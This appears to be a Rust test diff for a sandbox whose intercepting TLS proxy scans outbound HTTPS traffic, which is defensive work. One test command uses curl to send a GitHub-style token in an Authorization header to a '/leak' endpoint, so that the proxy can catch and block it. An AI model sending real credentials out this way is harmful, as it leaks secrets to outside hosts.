@@ -63,3 +63,30 @@ fn a_sandboxed_curl_reaches_exactly_what_policy_allows() {
         "{records:?}"
     );
 }
+
+#[test]
+fn a_sandboxed_https_request_is_intercepted_and_scanned() {
+    let origin = super::tls::tls_origin("secure.test");
+    let (p, cordon_ca, _keep) = super::tls::intercepting(&origin, true);
+    let ws = tempfile::tempdir().unwrap();
+    let mut config = SandboxConfig::new(ws.path());
+    config.proxy_socket = Some(p.socket.clone());
+    config.ca_file = Some(cordon_ca);
+    config.limits.timeout = Duration::from_secs(20);
+    let sb = Sandbox::new(config).unwrap();
+    let port = origin.port;
+    let out = run(
+        &sb,
+        &format!(
+            "curl -sS -m 5 https://secure.test:{port}/in; echo; \
+             curl -sS -m 5 -H 'Authorization: token ghp_2ugKv2Ht9qICAAazXYhT1xZJOouhEtXSKHrK' https://secure.test:{port}/leak"
+        ),
+    );
+    assert!(out.starts_with("hello from tls origin\n"), "{out}");
+    assert!(out.contains("carries a secret"), "{out}");
+    let seen = String::from_utf8_lossy(&origin.received.lock().unwrap()).into_owned();
+    assert!(
+        seen.contains("GET /in") && !seen.contains("/leak"),
+        "{seen}"
+    );
+}
